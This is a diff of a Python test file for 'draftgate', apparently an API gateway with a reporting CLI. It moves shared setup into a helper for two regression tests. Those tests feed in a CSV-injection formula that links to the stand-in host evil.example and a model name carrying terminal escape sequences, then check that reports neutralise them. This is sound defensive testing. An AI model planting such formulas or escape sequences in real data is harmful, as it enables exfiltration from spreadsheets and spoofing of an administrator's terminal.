@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import json
@@ -149,20 +150,26 @@ def test_cli_report_by_team_in_three_formats(tmp_path: Path, monkeypatch: pytest
     assert bad.exit_code == 2 and "span like 30d" in bad.output
 
 
+def _record_model_as_sent(gateway, model: str, tmp_path: Path,  # type: ignore[no-untyped-def]
+                          monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Sends a request naming `model` (no alias has it: a 404, recorded as sent), flushes the ledger, and returns a
+    config file for the CLI that reads that ledger."""
+    sent = httpx.post(f"{gateway.url}/v1/chat/completions", headers={"authorization": "Bearer sk-research-123456"},
+                      json={"model": model, "messages": [{"role": "user", "content": "hi"}]})
+    assert sent.status_code == 404
+    asyncio.run_coroutine_threadsafe(gateway.services.writer.flush(), gateway.services.loop).result(10)
+    cfg = tmp_path / "draftgate.yaml"
+    cfg.write_text(config(tmp_path / "ledger.db"))
+    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
+    return cfg
+
+
 def test_csv_cells_a_client_wrote_are_not_spreadsheet_formulas(seeded_gateway, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
     """Any key may send a `model` no alias has: it is recorded as sent, and `report --by model --format csv` wrote
     it as is, so a spreadsheet opening the file ran `=HYPERLINK(...)` as a formula (CSV injection)."""
     formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-    sent = httpx.post(f"{seeded_gateway.url}/v1/chat/completions", headers={"authorization": "Bearer sk-research-123456"},
-                      json={"model": formula, "messages": [{"role": "user", "content": "hi"}]})
-    assert sent.status_code == 404
-    fut = __import__("asyncio").run_coroutine_threadsafe(seeded_gateway.services.writer.flush(),
-                                                        seeded_gateway.services.loop)
-    fut.result(10)
-    cfg = tmp_path / "draftgate.yaml"
-    cfg.write_text(config(tmp_path / "ledger.db"))
-    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
+    cfg = _record_model_as_sent(seeded_gateway, formula, tmp_path, monkeypatch)
     out = CliRunner().invoke(cli, ["report", "--by", "model", "--format", "csv", "-c", str(cfg)])
     assert out.exit_code == 0, out.output
     labels = [row["label"] for row in csv.DictReader(io.StringIO(out.output))]
@@ -177,15 +184,7 @@ def test_the_report_table_shows_control_characters_a_client_sent_instead_of_send
     """A `model` no alias has is recorded as sent: with escape sequences in it, `draftgate report --by model` wrote
     them to the admin's terminal (clear the screen, retitle the window, hide a row, fake a link)."""
     hostile = "gpt\x1b[2J\x1b]0;owned\x07\u202e-mini"
-    sent = httpx.post(f"{seeded_gateway.url}/v1/chat/completions", headers={"authorization": "Bearer sk-research-123456"},
-                      json={"model": hostile, "messages": [{"role": "user", "content": "hi"}]})
-    assert sent.status_code == 404
-    fut = __import__("asyncio").run_coroutine_threadsafe(seeded_gateway.services.writer.flush(),
-                                                        seeded_gateway.services.loop)
-    fut.result(10)
-    cfg = tmp_path / "draftgate.yaml"
-    cfg.write_text(config(tmp_path / "ledger.db"))
-    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
+    cfg = _record_model_as_sent(seeded_gateway, hostile, tmp_path, monkeypatch)
     out = CliRunner().invoke(cli, ["report", "--by", "model", "-c", str(cfg)])
     assert out.exit_code == 0, out.output
     assert not any(c in out.output for c in "\x1b\x07\u202e"), repr(out.output)
